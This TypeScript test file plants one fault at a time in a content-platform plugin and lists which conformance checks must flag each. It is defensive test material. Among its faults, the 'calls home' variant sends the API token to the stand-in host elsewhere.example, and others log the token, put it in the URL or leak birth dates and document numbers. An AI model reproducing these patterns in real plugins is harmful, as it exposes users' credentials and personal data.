// Plugins with one fault each, made of a good one: what the conformance kit must find.
import { PlatformFailure, isPlatformFailure, type AnyPlugin, type Host, type Manifest, type Platform, type WantedAccount } from '@content-platforms/plugin-sdk';
import { saberMais, type SaberMaisSettings } from '@content-platforms/saber-mais';
import type { CheckCode } from './conformance/index.ts';

export interface PlantedFault {
  name: string;
  /** The checks that must fail, and no other. */
  red: CheckCode[];
  plugin: AnyPlugin;
}

interface Change {
  manifest?: Partial<Manifest<SaberMaisSettings>>;
  /** Between plugin and host. */
  host?: (host: Host, settings: SaberMaisSettings) => Host;
  /** Between host and plugin. */
  platform?: (good: Platform, settings: SaberMaisSettings, host: Host) => Partial<Platform>;
}

function planted(name: string, red: CheckCode[], { manifest, host: hostOf = (host) => host, platform }: Change): PlantedFault {
  const plugin = {
    manifest: { ...saberMais.manifest, ...manifest },
    connect(settings: SaberMaisSettings, host: Host) {
      const good = saberMais.connect(settings, hostOf(host, settings));
      return { ...good, ...platform?.(good, settings, host) };
    },
  };
  return { name, red, plugin: plugin as AnyPlugin };
}

const isWrite = (method = 'GET'): boolean => method !== 'GET';

/** Rewrites the host's `fetch`. */
const fetching =
  (change: (fetch: Host['fetch'], settings: SaberMaisSettings, host: Host) => Host['fetch']) =>
  (host: Host, settings: SaberMaisSettings): Host => ({ ...host, fetch: change(host.fetch, settings, host) });

const setting = (
  set: (good: Platform, wanted: WantedAccount, call: Parameters<Platform['set']>[1], settings: SaberMaisSettings, host: Host) => ReturnType<Platform['set']>,
) => ({
  platform: (good: Platform, settings: SaberMaisSettings, host: Host): Partial<Platform> => ({
    set: (wanted, call) => set(good, wanted, call, settings, host),
  }),
});

/** Every failure of `set` that `change` answers is thrown instead. */
const failing = (change: (failure: PlatformFailure, settings: SaberMaisSettings) => PlatformFailure | undefined) =>
  setting(async (good, wanted, call, settings) => {
    try {
      return await good.set(wanted, call);
    } catch (error) {
      throw (isPlatformFailure(error) && change(error, settings)) || error;
    }
  });

const owners = new Map<string, symbol>();

export const plantedFaults: PlantedFault[] = [
  planted('a manifest that says unique what it does not need', ['CK-01'], { manifest: { unique: ['email', 'birthDate'] } }),
  planted('a token described as plain text', ['CK-03'], {
    manifest: {
      settings: {
        ...saberMais.manifest.settings,
        jsonSchema: JSON.parse(JSON.stringify(saberMais.manifest.settings.jsonSchema).replaceAll('"writeOnly":true', '"writeOnly":false')),
      },
    },
  }),
  planted('an account id that is another each time', ['CK-04'], {
    platform: (good) => ({ check: async (call) => ({ ...(await good.check(call)), accountId: call.key }) }),
  }),
  planted('a bad token taken for a failure of the platform', ['CK-05'], {
    platform: (good) => ({
      check: (call) =>
        good.check(call).catch((error: unknown) => {
          throw new PlatformFailure('unavailable', 'A plataforma falhou.', { cause: error });
        }),
    }),
  }),
  planted('only the first page of the catalog', ['CK-06'], {
    platform: (good) => ({
      async *products(call) {
        let count = 0;
        for await (const product of good.products?.(call) ?? []) if ((count += 1) <= 100) yield product;
      },
    }),
  }),
  planted('half of a catalog that ends as if whole', ['CK-07'], {
    platform: (good) => ({
      async *products(call) {
        try {
          yield* good.products?.(call) ?? [];
        } catch {
          return;
        }
      },
    }),
  }),
  planted('says done after the first write', ['CK-20'], {
    ...setting(async (good, wanted, call) => {
      const outcome = await good.set(wanted, call);
      const held = await good.find?.(wanted, call);
      return { state: 'done', held: held ?? { reference: null, remoteId: null, products: [], memo: {} }, memo: outcome.memo };
    }),
  }),
  // The second write may be refused after the first was made.
  planted('writes twice per call', ['CK-21', 'CK-46'], {
    ...setting(async (good, wanted, call) => {
      const outcome = await good.set(wanted, call);
      return outcome.state === 'more' ? good.set({ ...wanted, memo: outcome.memo }, call) : outcome;
    }),
  }),
  planted('declares another way of blocking than it has', ['CK-23'], {
    manifest: { capabilities: { ...saberMais.manifest.capabilities, blocking: 'by-removal' } },
  }),
  planted('forgets to end what is not wanted any more', ['CK-25'], {
    ...setting(async (good, wanted, call) =>
      wanted.products.length > 0 ? good.set(wanted, call) : { state: 'done', held: { reference: null, remoteId: null, products: [], memo: {} }, memo: {} },
    ),
  }),
  planted('takes over what is not ours', ['CK-28'], {
    ...setting(async (good, wanted, call) => {
      try {
        return await good.set(wanted, call);
      } catch (error) {
        if (isPlatformFailure(error) && error.code === 'conflict') return good.set({ ...wanted, adopt: error.remoteId }, call);
        throw error;
      }
    }),
  }),
  planted('does not say that the product is at fault', ['CK-30'], {
    ...failing(({ code, field, message }) => (field === 'product' ? new PlatformFailure(code, message) : undefined)),
  }),
  planted('exhausted licences taken for a refusal', ['CK-33'], {
    ...failing(({ code, message }) => (code === 'quota' ? new PlatformFailure('refused', message) : undefined)),
  }),
  planted('drops the wait it was asked for', ['CK-34'], {
    ...failing(({ code, message }) => (code === 'throttled' ? new PlatformFailure(code, message) : undefined)),
  }),
  planted('swallows unknown outcomes', ['CK-40', 'CK-41', 'CK-42', 'CK-43', 'CK-47'], {
    ...setting(async (good, wanted, call) => {
      try {
        return await good.set(wanted, call);
      } catch (error) {
        if (isPlatformFailure(error) && error.code === 'unknown') return { state: 'more', afterSeconds: 0, memo: wanted.memo };
        throw error;
      }
    }),
  }),
  planted('repeats a write that was not answered', ['CK-40', 'CK-44'], {
    host: fetching((fetch) => async (url, init) => {
      const subscribes = init?.method === 'POST' && url.endsWith('/assinaturas');
      return fetch(url, init).catch(async (error: unknown) => {
        if (subscribes) await fetch(url, init);
        throw error;
      });
    }),
  }),
  planted('an unanswered write taken for a failure that changed nothing', ['CK-40', 'CK-41', 'CK-42', 'CK-43', 'CK-44', 'CK-47'], {
    ...failing(({ code, message }) => (code === 'unknown' ? new PlatformFailure('unavailable', message) : undefined)),
  }),
  planted('a 5xx taken for a failure that changed nothing', ['CK-42'], {
    ...failing(({ code, message }) => (code === 'unknown' && message.includes('HTTP 500') ? new PlatformFailure('unavailable', message) : undefined)),
  }),
  planted('says of every write that it may be repeated', ['CK-44'], {
    ...failing(({ code, message }) => (code === 'unknown' ? new PlatformFailure(code, message, { repeatable: true }) : undefined)),
  }),
  planted('a failed read taken for a refusal of the subscriber', ['CK-45'], {
    ...failing(({ code, message }) => (code === 'unavailable' ? new PlatformFailure('refused', message) : undefined)),
  }),
  planted('sends what it does not declare', ['CK-50'], {
    platform: (_good, settings, host) => ({
      set: (wanted, call) => {
        const born = wanted.subscriber.birthDate?.split('-').reverse().join('/') ?? '';
        const telling: Host = { ...host, fetch: (url, init) => host.fetch(url, { ...init, headers: { ...init?.headers, 'x-nascimento': born } }) };
        return saberMais.connect(settings, telling).set(wanted, call);
      },
    }),
  }),
  planted('calls home', ['CK-51'], {
    host: fetching((fetch, settings, host) => async (url, init) => {
      if (isWrite(init?.method))
        await host.fetch('http://elsewhere.example/api/v1/parceiro', { headers: { authorization: `Bearer ${settings.token}` } }).catch(() => undefined);
      return fetch(url, init);
    }),
  }),
  planted('logs the token', ['CK-52'], {
    host: fetching((fetch, { token }, host) => async (url, init) => {
      host.log('request', { token });
      return fetch(url, init);
    }),
  }),
  planted('puts the token into the address', ['CK-52'], {
    host: fetching(
      (fetch, { token }) =>
        (url, init) =>
          fetch(`${url}${url.includes('?') ? '&' : '?'}t=${token}`, init),
    ),
  }),
  planted('passes on what the platform quotes', ['CK-52', 'CK-53'], {
    host: fetching((fetch) => async (url, init) => {
      const response = await fetch(url, init);
      if (response.status === 400) throw new PlatformFailure('refused', `A plataforma respondeu: ${response.text}`);
      return response;
    }),
  }),
  planted('keeps the document in its memo', ['CK-53'], {
    ...setting(async (good, wanted, call) => {
      const outcome = await good.set(wanted, call);
      return { ...outcome, memo: { ...outcome.memo, document: wanted.subscriber.document ?? '' } };
    }),
  }),
  planted('takes settings it does not know', ['CK-02'], {
    manifest: {
      settings: {
        ...saberMais.manifest.settings,
        '~standard': {
          ...saberMais.manifest.settings['~standard'],
          validate: (value) => {
            const { token, baseUrl } = (value ?? {}) as Partial<SaberMaisSettings>;
            return saberMais.manifest.settings['~standard'].validate({ token, baseUrl });
          },
        },
      },
    },
  }),
  planted('leaves the first account out of its list', ['CK-08'], {
    platform: (good) => ({
      async *list(call) {
        let first = true;
        for await (const account of good.list?.(call) ?? []) {
          if (!first) yield account;
          first = false;
        }
      },
    }),
  }),
  planted('finds only what its memo knows', ['CK-09'], {
    platform: (good) => ({ find: async (wanted, call) => (wanted.memo.userId === undefined ? null : (good.find?.(wanted, call) ?? null)) }),
  }),
  planted('breaks at a memo of nonsense', ['CK-22'], {
    ...setting(async (good, wanted, call) => {
      if ('nonsense' in wanted.memo) throw new TypeError('Cannot read properties of undefined');
      return good.set(wanted, call);
    }),
  }),
  planted('keeps products that are no longer wanted', ['CK-24'], {
    ...setting(async (good, wanted, call) => {
      const held = wanted.products.length > 0 ? ((await good.find?.(wanted, call))?.products ?? []) : [];
      const kept = held.filter(({ ref }) => !wanted.products.some((one) => one.ref === ref));
      return good.set({ ...wanted, products: [...wanted.products, ...kept.map(({ ref }) => ({ ref, blocked: false as const }))] }, call);
    }),
  }),
  planted('remembers its accounts in the process', ['CK-26'], {
    platform: (good) => {
      const me = Symbol('connection');
      return {
        set: async (wanted, call) => {
          const owner = owners.get(wanted.reference) ?? me;
          owners.set(wanted.reference, owner);
          if (owner !== me) throw new TypeError('Cannot read properties of undefined');
          return good.set(wanted, call);
        },
      };
    },
  }),
  planted('believes a memo that points at another account', ['CK-27'], {
    ...setting((good, wanted, call) => good.set(wanted.memo.userId === undefined ? wanted : { ...wanted, adopt: String(wanted.memo.userId) }, call)),
  }),
  planted('does not say which datum was refused', ['CK-31'], {
    ...failing(({ code, platformCode, message }) => (platformCode === 'documento_invalido' ? new PlatformFailure(code, message) : undefined)),
  }),
  planted('does not say which datum is missing', ['CK-32'], {
    ...failing(({ code, field, message, platformCode }) => (field === 'name' && !platformCode ? new PlatformFailure(code, message) : undefined)),
  }),
  planted('gives a way in that leads nowhere', ['CK-54'], { platform: () => ({ access: async () => ({ kind: 'link', url: 'em breve' }) }) }),
  planted('says that it changes a document, and does not', ['CK-29'], {
    manifest: { capabilities: { ...saberMais.manifest.capabilities, changesDocument: true } },
  }),
  planted('does not say what the platform keeps unique', ['CK-55'], { manifest: { unique: [] } }),
];
